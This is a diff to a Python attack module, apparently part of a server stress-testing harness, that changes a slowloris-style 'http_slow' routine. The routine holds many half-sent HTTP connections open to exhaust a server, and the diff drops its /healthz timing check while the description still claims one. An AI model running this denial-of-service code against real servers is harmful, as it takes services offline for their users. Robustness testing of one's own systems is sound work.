@@ -2,35 +2,35 @@
 import threading
 import time
 
-import measure
 from attacks.registry import attack
 from http2 import open_socket
 
-POST_BYTES, POST_SECONDS = 1 << 30, 10
+POST_BYTES, POST_SECONDS = 1 << 30, 7
 ANSWER_BYTES = 256 << 20
 
 
-@attack("http_slow", "4, then 16, then 64 connections that send a request a byte a second, while /healthz is asked", seconds=18)
+@attack("http_slow", "4, then 16, then 64 connections that send a request slowly, three bytes a second, while /healthz is asked",
+        seconds=12)
 def http_slow(target):
-    held, told = [], {}
+    held, opened = [], 0
     for count in (4, 16, 64):
-        until = time.monotonic() + target.seconds / 3
-        slowest = 0.0
-        while time.monotonic() < until:
+        until = target.left() - target.seconds / 3
+        while target.left() > max(0, until):
             while len(held) < count:
-                held.append(open_socket(target.http, target.source(len(held)), 2))
-                held[-1].sendall(b"GET / HTTP/1.1\r\nHost: a\r\nX-Slow: ")
+                try:
+                    held.append(open_socket(target.http, target.source(opened), 1))
+                    held[-1].sendall(b"GET / HTTP/1.1\r\nHost: a\r\nX-Slow: ")
+                except OSError:
+                    break
+                opened += 1
             for one in list(held):
                 try:
                     one.sendall(b"a")
                 except OSError:
                     one.close()
                     held.remove(one)
-            seconds = measure.answer_seconds(target.http, limit=max(1, until - time.monotonic()))
-            slowest = None if seconds is None or slowest is None else max(slowest, seconds)
-            time.sleep(1)
-        told[f"healthz_with_{count}"] = slowest
-    return told
+            time.sleep(0.3)
+    return {"connections": opened}
 
 
 def push(target, number, head, part, told):
